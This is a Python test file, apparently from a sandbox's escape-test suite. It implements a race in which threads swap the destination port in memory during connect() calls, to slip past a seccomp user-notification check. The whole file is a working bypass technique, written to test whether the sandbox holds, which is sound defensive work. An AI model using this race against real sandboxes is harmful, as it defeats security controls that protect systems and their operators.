"""Swap the port in memory while the host looks at a connect."""

import ctypes
import struct
import threading
import time

from tests.escape.grants import another_port, connect_tcp
from tests.escape.technique import Granted, Technique


def attack(world):
    buffer = ctypes.create_string_buffer(world.ipv4(9))
    ports = (struct.pack("!H", 9), struct.pack("!H", world.tcp))
    stop, refused = time.monotonic() + 0.25 * world.slowness, threading.Event()
    at_last = stop + 5 * world.slowness  # on a busy machine one port may be there at each of a few calls

    def goes_on():
        return time.monotonic() < (stop if refused.is_set() else at_last)

    def flip():
        turn, place = 0, ctypes.addressof(buffer) + 2
        while goes_on():
            turn = not turn
            ctypes.memmove(place, ports[turn], 2)

    threads = [threading.Thread(target=flip) for _ in range(2)]
    for thread in threads:
        thread.start()
    while goes_on():
        descriptor = world.libc.socket(2, 1, 0)
        if world.libc.connect(descriptor, buffer, 16) == 0:
            break
        if ctypes.get_errno() == 13:
            refused.set()
        world.libc.close(descriptor)
    for thread in threads:
        thread.join()


TECHNIQUE = Technique(
    source="seccomp_unotify(2): CONTINUE is no security decision on pointers; CVE-2022-24958 class",
    policy=another_port,
    event=("net.connect",),
    by="kernel",
    syscall="connect",
    stops=("notification",),
    control=Granted(connect_tcp),
)
